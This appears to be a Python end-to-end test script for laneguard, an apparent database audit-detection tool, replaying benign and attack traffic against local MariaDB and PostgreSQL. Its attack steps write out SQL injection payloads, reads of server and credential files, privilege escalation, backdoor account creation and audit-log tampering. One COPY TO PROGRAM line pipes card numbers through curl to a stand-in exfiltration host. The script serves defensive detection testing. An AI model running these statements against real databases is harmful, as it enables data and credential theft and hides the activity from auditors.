#!/usr/bin/env python3
"""laneguard end-to-end workloads against a real MariaDB (server_audit) or PostgreSQL (pgaudit).

Driven by the Rust harness (tests/it/e2e.rs), which starts and stops the servers. Each workload is
a list of *steps*; every step connects from the loopback source address that stands for its zone
(the client socket is bound before connecting), runs its statements and disconnects. After each
step the script waits until the audit log stops growing and records the step's byte range, so the
harness can tell which log lines (and so which findings) belong to which step.

Zones (see rules/policy.toml, the *-lo zones):
  127.10.0.5   management             127.16.0.5   payments application
  127.48.0.5   marketing application  127.200.0.9  internet-facing

Usage:
  workload.py --engine mysql|pg --port N --log AUDIT_LOG --phase setup|benign|attack --manifest OUT.json

The manifest is a JSON list of {"step", "label", "start", "end"} (byte offsets into the log).
Step names of the attack phase are the keys of the expectation table in tests/it/e2e.rs.
"""

import argparse
import json
import os
import sys
import time

MGMT = "127.10.0.5"
PAY = "127.16.0.5"
MKT = "127.48.0.5"
NET = "127.200.0.9"

PASSWORDS = {
    "admin": "e2e-Admin-pw1",
    "app_pay": "e2e-Pay-pw1",
    "app_mkt": "e2e-Mkt-pw1",
}

ARGS = None


# ----------------------------------------------------------------------------------------------
# Connections
# ----------------------------------------------------------------------------------------------


class Session:
    """One client connection from a bound source address; `q` runs a statement and never raises
    for SQL errors (a denied attempt is the point of many attack steps)."""

    def __init__(self, user, source, database=None, password=None, multi=False):
        self.engine = ARGS.engine
        password = password if password is not None else PASSWORDS[user]
        if self.engine == "mysql":
            import pymysql
            from pymysql.constants import CLIENT

            self.conn = pymysql.connect(
                host="127.0.0.1",
                port=ARGS.port,
                user=user,
                password=password,
                database=database,
                bind_address=source,
                autocommit=True,
                client_flag=CLIENT.MULTI_STATEMENTS if multi else 0,
                connect_timeout=10,
            )
        else:
            import pg8000

            self.conn = pg8000.Connection(
                user,
                host="127.0.0.1",
                port=ARGS.port,
                database=database or "postgres",
                password=password,
                source_address=(source, 0),
                timeout=10,
            )
            self.conn.autocommit = True

    def q(self, sql, params=None):
        try:
            if self.engine == "mysql":
                with self.conn.cursor() as cur:
                    cur.execute(sql, params)
                    while True:
                        cur.fetchall()
                        if not cur.nextset():
                            break
            else:
                cur = self.conn.cursor()
                if params is None:
                    cur.execute(sql)
                else:
                    cur.execute(sql, params)
                if cur.description is not None:
                    cur.fetchall()
            return True
        except Exception as e:  # noqa: BLE001 - the server's verdict is what we want logged
            if ARGS.phase != "attack":
                raise SystemExit(f"{ARGS.phase} statement failed: {sql!r}: {e}") from e
            if ARGS.verbose:
                print(f"    denied/failed: {sql[:60]!r}: {e}", file=sys.stderr)
            if self.engine == "pg":
                # A failed statement aborts nothing in autocommit mode, but reset just in case.
                try:
                    self.conn.rollback()
                except Exception:  # noqa: BLE001
                    pass
            return False

    def simple(self, sql):
        """PostgreSQL simple-query protocol (allows several statements in one string)."""
        try:
            self.conn.execute_simple(sql)
            return True
        except Exception as e:  # noqa: BLE001
            if ARGS.verbose:
                print(f"    denied/failed: {sql[:60]!r}: {e}", file=sys.stderr)
            return False

    def close(self):
        try:
            self.conn.close()
        except Exception:  # noqa: BLE001
            pass

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()


def failed_login(user, source, password, database=None):
    try:
        Session(user, source, database, password=password).close()
    except Exception:  # noqa: BLE001 - expected: wrong password
        return
    raise SystemExit(f"login of {user} with a wrong password succeeded")


def my(engine_sql_mysql, engine_sql_pg):
    return engine_sql_mysql if ARGS.engine == "mysql" else engine_sql_pg


# ----------------------------------------------------------------------------------------------
# Setup (management zone): databases, tables, application accounts
# ----------------------------------------------------------------------------------------------


def setup_mysql():
    with Session("admin", MGMT) as s:
        for db in ("payments", "marketing"):
            s.q(f"CREATE DATABASE IF NOT EXISTS {db}")
        s.q(
            "CREATE TABLE payments.customers (id INT PRIMARY KEY AUTO_INCREMENT, name VARCHAR(64),"
            " email VARCHAR(128), created_at DATETIME DEFAULT CURRENT_TIMESTAMP)"
        )
        s.q("CREATE TABLE payments.products (id INT PRIMARY KEY, name VARCHAR(64), price_cents INT)")
        s.q(
            "CREATE TABLE payments.orders (id INT PRIMARY KEY AUTO_INCREMENT, customer_id INT,"
            " product_id INT, qty INT, status VARCHAR(16), created_at DATETIME DEFAULT CURRENT_TIMESTAMP)"
        )
        s.q("CREATE TABLE payments.cards (id INT PRIMARY KEY AUTO_INCREMENT, customer_id INT, card_number VARCHAR(19), expiry CHAR(5))")
        s.q("CREATE TABLE payments.notes (id INT PRIMARY KEY AUTO_INCREMENT, body TEXT)")
        s.q("CREATE TABLE marketing.campaigns (id INT PRIMARY KEY AUTO_INCREMENT, name VARCHAR(64), budget_cents INT, active TINYINT)")
        s.q("CREATE TABLE marketing.segments (id INT PRIMARY KEY AUTO_INCREMENT, campaign_id INT, label VARCHAR(64), size INT)")
        s.q("CREATE INDEX orders_customer ON payments.orders (customer_id)")
        for i in range(1, 9):
            s.q("INSERT INTO payments.products (id, name, price_cents) VALUES (%s, %s, %s)", (i, f"product-{i}", 500 * i))
        s.q(f"CREATE USER 'app_pay'@'%' IDENTIFIED BY '{PASSWORDS['app_pay']}'")
        s.q(f"CREATE USER 'app_mkt'@'%' IDENTIFIED BY '{PASSWORDS['app_mkt']}'")
        # Over-privileged application accounts: the preventive control that fails (defense in depth).
        s.q("GRANT ALL PRIVILEGES ON payments.* TO 'app_pay'@'%'")
        s.q("GRANT SELECT, INSERT, UPDATE, DELETE ON marketing.* TO 'app_mkt'@'%'")
        s.q("GRANT SELECT ON payments.* TO 'app_mkt'@'%'")


def setup_pg():
    with Session("admin", MGMT, "postgres") as s:
        s.q(f"CREATE ROLE app_pay LOGIN PASSWORD '{PASSWORDS['app_pay']}'")
        s.q(f"CREATE ROLE app_mkt LOGIN PASSWORD '{PASSWORDS['app_mkt']}'")
        s.q("CREATE DATABASE payments")
        s.q("CREATE DATABASE marketing")
    with Session("admin", MGMT, "payments") as s:
        s.q("CREATE TABLE customers (id serial PRIMARY KEY, name text, email text, created_at timestamptz DEFAULT now())")
        s.q("CREATE TABLE products (id int PRIMARY KEY, name text, price_cents int)")
        s.q(
            "CREATE TABLE orders (id serial PRIMARY KEY, customer_id int, product_id int, qty int,"
            " status text, created_at timestamptz DEFAULT now())"
        )
        s.q("CREATE TABLE cards (id serial PRIMARY KEY, customer_id int, card_number text, expiry text)")
        s.q("CREATE TABLE notes (id serial PRIMARY KEY, body text)")
        s.q("CREATE INDEX orders_customer ON orders (customer_id)")
        s.q("INSERT INTO products SELECT g, 'product-' || g, 500 * g FROM generate_series(1, 8) g")
        # Over-privileged application accounts: the preventive control that fails.
        s.q("GRANT ALL ON ALL TABLES IN SCHEMA public TO app_pay")
        s.q("GRANT ALL ON ALL SEQUENCES IN SCHEMA public TO app_pay")
        s.q("GRANT CREATE ON SCHEMA public TO app_pay")
        s.q("GRANT SELECT ON ALL TABLES IN SCHEMA public TO app_mkt")
    with Session("admin", MGMT, "marketing") as s:
        s.q("CREATE TABLE campaigns (id serial PRIMARY KEY, name text, budget_cents int, active boolean)")
        s.q("CREATE TABLE segments (id serial PRIMARY KEY, campaign_id int, label text, size int)")
        s.q("GRANT SELECT, INSERT, UPDATE, DELETE ON ALL TABLES IN SCHEMA public TO app_mkt")
        s.q("GRANT USAGE ON ALL SEQUENCES IN SCHEMA public TO app_mkt")


# ----------------------------------------------------------------------------------------------
# Benign traffic
# ----------------------------------------------------------------------------------------------


def t(table, db):
    """Table name as the engine wants it: `db.table` on MySQL, `table` (in database db) on PG."""
    return f"{db}.{table}" if ARGS.engine == "mysql" else table


def benign_payments():
    p = "%s"
    with Session("app_pay", PAY, "payments") as s:
        for i in range(1, 16):
            s.q(f"INSERT INTO {t('customers', 'payments')} (name, email) VALUES ({p}, {p})", (f"customer {i}", f"c{i}@example.com"))
        for i in range(1, 16):
            s.q(
                f"INSERT INTO {t('cards', 'payments')} (customer_id, card_number, expiry) VALUES ({p}, {p}, {p})",
                (i, f"tok_{i:012d}", "12/29"),
            )
        for i in range(1, 31):
            s.q("BEGIN" if ARGS.engine == "pg" else "START TRANSACTION")
            s.q(
                f"INSERT INTO {t('orders', 'payments')} (customer_id, product_id, qty, status) VALUES ({p}, {p}, {p}, 'new')",
                (1 + i % 15, 1 + i % 8, 1 + i % 3),
            )
            s.q(f"UPDATE {t('orders', 'payments')} SET status = 'paid' WHERE customer_id = {p} AND status = 'new'", (1 + i % 15,))
            s.q("COMMIT")
            s.q(f"SELECT id, name, price_cents FROM {t('products', 'payments')} WHERE id = {p}", (1 + i % 8,))
            s.q(f"SELECT id, status FROM {t('orders', 'payments')} WHERE customer_id = {p} ORDER BY id DESC LIMIT 5", (1 + i % 15,))
        for i in range(1, 6):
            s.q(f"SELECT card_number FROM {t('cards', 'payments')} WHERE customer_id = {p}", (i,))
            s.q(f"SELECT name, email FROM {t('customers', 'payments')} WHERE id = {p}", (i,))
        s.q(f"DELETE FROM {t('orders', 'payments')} WHERE status = 'cancelled' AND customer_id = {p}", (3,))


def benign_marketing():
    p = "%s"
    with Session("app_mkt", MKT, "marketing") as s:
        for i in range(1, 11):
            s.q(
                f"INSERT INTO {t('campaigns', 'marketing')} (name, budget_cents, active) VALUES ({p}, {p}, {p})",
                (f"spring-{i}", 10000 * i, True),
            )
            s.q(f"INSERT INTO {t('segments', 'marketing')} (campaign_id, label, size) VALUES ({p}, {p}, {p})", (i, f"seg-{i}", 100 * i))
        for i in range(1, 11):
            s.q(f"SELECT id, name, budget_cents FROM {t('campaigns', 'marketing')} WHERE active = {p} AND id = {p}", (True, i))
            s.q(f"UPDATE {t('segments', 'marketing')} SET size = size + 1 WHERE campaign_id = {p}", (i,))
        s.q(f"SELECT count(*) FROM {t('segments', 'marketing')} WHERE size > {p}", (300,))


def benign_management():
    """Routine administration from the management zone."""
    if ARGS.engine == "mysql":
        with Session("admin", MGMT) as s:
            s.q("SHOW DATABASES")
            s.q("SHOW TABLES FROM payments")
            s.q("SHOW PROCESSLIST")
            s.q("SHOW VARIABLES LIKE 'server_audit%'")
            s.q("ANALYZE TABLE payments.orders")
            s.q("CREATE INDEX campaigns_active ON marketing.campaigns (active)")
            s.q("ALTER TABLE payments.orders ADD COLUMN note VARCHAR(64) NULL")
            s.q("SELECT COUNT(*) FROM payments.orders")
            s.q("SHOW GRANTS FOR 'app_pay'@'%'")
    else:
        with Session("admin", MGMT, "payments") as s:
            s.q("SHOW pgaudit.log")
            s.q("SELECT datname FROM pg_database WHERE NOT datistemplate")
            s.q("SELECT pid, usename, state FROM pg_stat_activity WHERE datname = 'payments'")
            s.q("ANALYZE orders")
            s.q("VACUUM (ANALYZE) customers")
            s.q("ALTER TABLE orders ADD COLUMN note text")
            s.q("SELECT count(*) FROM orders")
        with Session("admin", MGMT, "marketing") as s:
            s.q("CREATE INDEX campaigns_active ON campaigns (active)")


# ----------------------------------------------------------------------------------------------
# Attacks (DETECTIONS.md; the step names are the keys of tests/it/e2e.rs EXPECTED)
# ----------------------------------------------------------------------------------------------


def attacks_mysql():
    steps = []

    def step(name, label):
        def deco(f):
            steps.append((name, label, f))
            return f

        return deco

    @step("swim-lane-read", "marketing application reads payments card data")
    def _():
        with Session("app_mkt", MKT, "marketing") as s:
            s.q("SELECT customer_id, card_number, expiry FROM payments.cards WHERE customer_id = 1")

    @step("ddl-from-app", "DDL from the payments application zone")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("CREATE TABLE payments.exfil_stage (id INT, blob_data TEXT)")
            s.q("DROP TABLE payments.exfil_stage")

    @step("mgmt-wrong-zone", "management credentials used from the application zone")
    def _():
        with Session("admin", PAY) as s:
            s.q("SELECT COUNT(*) FROM payments.customers")

    @step("internet-connect", "connection and query from the internet-facing zone")
    def _():
        with Session("app_pay", NET, "payments") as s:
            s.q("SELECT name FROM payments.products WHERE id = 2")

    @step("sqli-tautology", "SQL injection: tautology")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SELECT id, name, email FROM payments.customers WHERE email = '' OR '1'='1'")

    @step("sqli-union", "SQL injection: UNION SELECT column-count probe")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SELECT name, price_cents FROM payments.products WHERE id = -1 UNION SELECT NULL, NULL")
            s.q("SELECT name, price_cents FROM payments.products WHERE id = -1 UNION ALL SELECT NULL, NULL, NULL")

    @step("sqli-union-extract", "SQL injection: UNION SELECT extracting another table")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SELECT name, price_cents FROM payments.products WHERE id = -1 UNION SELECT card_number, expiry FROM payments.cards")

    @step("sqli-stacked", "SQL injection: stacked query")
    def _():
        with Session("app_pay", PAY, "payments", multi=True) as s:
            s.q("SELECT name FROM payments.products WHERE id = 1; INSERT INTO payments.notes (body) VALUES ('pwned')")

    @step("sqli-time", "SQL injection: time delay")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SELECT name FROM payments.products WHERE id = 1 AND SLEEP(0.2)")
            s.q("SELECT name FROM payments.products WHERE id = 1 AND BENCHMARK(1000, MD5('a'))")

    @step("sqli-comment", "SQL injection: versioned and inline comments")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SELECT name FROM payments.products WHERE id = 1 /*!50000UNION*/ /*!50000SELECT*/ card_number FROM payments.cards")
            s.q("SELECT/**/name/**/FROM/**/payments.products/**/WHERE/**/id=1/**/OR/**/1=1")

    @step("into-outfile", "SELECT ... INTO OUTFILE (attempt)")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SELECT * FROM payments.cards INTO OUTFILE '/tmp/laneguard-e2e-cards.csv'")
        with Session("admin", MGMT) as s:
            s.q("SELECT card_number FROM payments.cards INTO OUTFILE '/tmp/laneguard-e2e-cards2.csv'")

    @step("load-file", "LOAD_FILE of a server file (attempt)")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SELECT LOAD_FILE('/etc/passwd')")

    @step("load-data-infile", "LOAD DATA INFILE of a server file (attempt)")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("LOAD DATA INFILE '/etc/passwd' INTO TABLE payments.notes")

    @step("priv-esc", "privilege escalation: GRANT ALL ON *.*")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("GRANT ALL PRIVILEGES ON *.* TO 'app_pay'@'%' WITH GRANT OPTION")
        with Session("admin", PAY) as s:
            s.q("GRANT ALL PRIVILEGES ON *.* TO 'app_mkt'@'%' WITH GRANT OPTION")

    @step("account-create", "account created with a wildcard host")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("CREATE USER 'svc_backup'@'%' IDENTIFIED BY 'Backd00r-pw'")
        with Session("admin", NET) as s:
            s.q("CREATE USER 'svc_sync'@'%' IDENTIFIED BY 'Backd00r-pw'")

    @step("credential-read", "read of the credential table mysql.user")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SELECT user, host, authentication_string FROM mysql.user")
        with Session("app_mkt", MKT, "marketing") as s:
            s.q("SELECT User, Password FROM mysql.user")

    @step("brute-force", "14 failed logins from one internet-facing source")
    def _():
        for i in range(14):
            failed_login("app_pay", NET, f"guess-{i}")

    @step("audit-tamper-denied", "audit tampering attempt by the application")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SET GLOBAL server_audit_logging = OFF")

    # Last: once it succeeds, the plugin logs nothing more.
    @step("audit-tamper", "server_audit_logging switched off")
    def _():
        with Session("admin", MGMT) as s:
            s.q("SET GLOBAL server_audit_logging = OFF")
            s.q("SELECT 'unlogged'")

    return steps


def attacks_pg():
    steps = []

    def step(name, label):
        def deco(f):
            steps.append((name, label, f))
            return f

        return deco

    @step("swim-lane-read", "marketing application reads payments card data")
    def _():
        with Session("app_mkt", MKT, "payments") as s:
            s.q("SELECT customer_id, card_number, expiry FROM cards WHERE customer_id = 1")

    @step("ddl-from-app", "DDL from the payments application zone")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("CREATE TABLE exfil_stage (id int, blob_data text)")
            s.q("DROP TABLE exfil_stage")

    @step("mgmt-wrong-zone", "management credentials used from the application zone")
    def _():
        with Session("admin", PAY, "payments") as s:
            s.q("SELECT count(*) FROM customers")

    @step("internet-connect", "connection and query from the internet-facing zone")
    def _():
        with Session("app_pay", NET, "payments") as s:
            s.q("SELECT name FROM products WHERE id = 2")

    @step("sqli-tautology", "SQL injection: tautology")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SELECT id, name, email FROM customers WHERE email = '' OR '1'='1'")

    @step("sqli-union", "SQL injection: UNION SELECT column-count probe")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SELECT name, price_cents FROM products WHERE id = -1 UNION SELECT NULL, NULL")
            s.q("SELECT name, price_cents FROM products WHERE id = -1 UNION ALL SELECT NULL, NULL, NULL")

    @step("sqli-union-extract", "SQL injection: UNION SELECT extracting another table")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SELECT name, price_cents::text FROM products WHERE id = -1 UNION SELECT card_number, expiry FROM cards")

    @step("sqli-stacked", "SQL injection: stacked query")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.simple("SELECT name FROM products WHERE id = 1; INSERT INTO notes (body) VALUES ('pwned')")

    @step("sqli-time", "SQL injection: time delay")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SELECT name FROM products WHERE id = 1 AND (SELECT 1 FROM pg_sleep(0.2)) IS NOT NULL")

    @step("sqli-comment", "SQL injection: inline comments")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SELECT/**/name/**/FROM/**/products/**/WHERE/**/id=1/**/OR/**/1=1")

    @step("copy-program", "COPY ... TO PROGRAM (attempt and success)")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("COPY (SELECT card_number FROM cards) TO PROGRAM 'curl -d @- http://exfil.invalid/'")
        with Session("admin", MGMT, "payments") as s:
            s.q("COPY (SELECT 1) TO PROGRAM 'cat > /dev/null'")

    @step("read-server-file", "pg_read_file and COPY to a server file (attempts)")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SELECT pg_read_file('/etc/passwd')")
            s.q("COPY cards TO '/tmp/laneguard-e2e-cards.csv'")
        with Session("admin", MGMT, "payments") as s:
            s.q("SELECT pg_read_file('PG_VERSION')")

    @step("priv-esc", "privilege escalation: ALTER ROLE ... SUPERUSER")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("ALTER ROLE app_pay SUPERUSER")
        with Session("admin", PAY, "payments") as s:
            s.q("ALTER ROLE app_mkt SUPERUSER")

    @step("account-create", "login role created outside the management zone")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("CREATE USER svc_backup WITH PASSWORD 'Backd00r-pw'")
        with Session("admin", NET, "payments") as s:
            s.q("CREATE USER svc_sync WITH LOGIN PASSWORD 'Backd00r-pw'")

    @step("credential-read", "read of pg_shadow / pg_authid")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SELECT usename, passwd FROM pg_shadow")
        with Session("admin", PAY, "payments") as s:
            s.q("SELECT rolname, rolpassword FROM pg_authid")

    @step("brute-force", "14 failed logins from one internet-facing source")
    def _():
        for i in range(14):
            failed_login("app_pay", NET, f"guess-{i}", "payments")

    @step("audit-tamper", "pgaudit.log switched off; ALTER SYSTEM")
    def _():
        with Session("app_pay", PAY, "payments") as s:
            s.q("SET pgaudit.log = 'none'")
        with Session("admin", MGMT, "payments") as s:
            s.q("ALTER SYSTEM SET pgaudit.log = 'none'")
            s.q("ALTER SYSTEM RESET pgaudit.log")
            s.q("SET pgaudit.log = 'none'")
            s.q("SELECT 'unlogged'")

    return steps


# ----------------------------------------------------------------------------------------------
# Driver
# ----------------------------------------------------------------------------------------------


def settle(path):
    """Wait until the log stops growing (disconnect lines are written after the client leaves)."""
    last, stable_since = -1, time.monotonic()
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        size = os.path.getsize(path)
        if size != last:
            last, stable_since = size, time.monotonic()
        elif time.monotonic() - stable_since >= 0.12:
            break
        time.sleep(0.02)
    return last


def main():
    global ARGS
    ap = argparse.ArgumentParser()
    ap.add_argument("--engine", choices=["mysql", "pg"], required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--log", required=True, help="audit log file, for step offsets")
    ap.add_argument("--phase", choices=["setup", "benign", "attack"], required=True)
    ap.add_argument("--manifest", required=True)
    ap.add_argument("--verbose", action="store_true")
    ARGS = ap.parse_args()

    if ARGS.phase == "setup":
        steps = [("admin-setup", "management zone creates databases, tables and application accounts", setup_mysql if ARGS.engine == "mysql" else setup_pg)]
    elif ARGS.phase == "benign":
        steps = [
            ("payments-app", "payments application traffic", benign_payments),
            ("marketing-app", "marketing application traffic", benign_marketing),
            ("management", "routine administration from the management zone", benign_management),
        ]
    else:
        steps = attacks_mysql() if ARGS.engine == "mysql" else attacks_pg()

    manifest = []
    start = settle(ARGS.log)
    for name, label, fn in steps:
        t0 = time.monotonic()
        fn()
        end = settle(ARGS.log)
        manifest.append({"step": name, "label": label, "start": start, "end": end})
        if ARGS.verbose:
            print(f"  {ARGS.engine} {name}: bytes {start}..{end} in {time.monotonic() - t0:.2f}s", file=sys.stderr)
        start = end
    with open(ARGS.manifest, "w") as f:
        json.dump(manifest, f, indent=1)


if __name__ == "__main__":
    main()
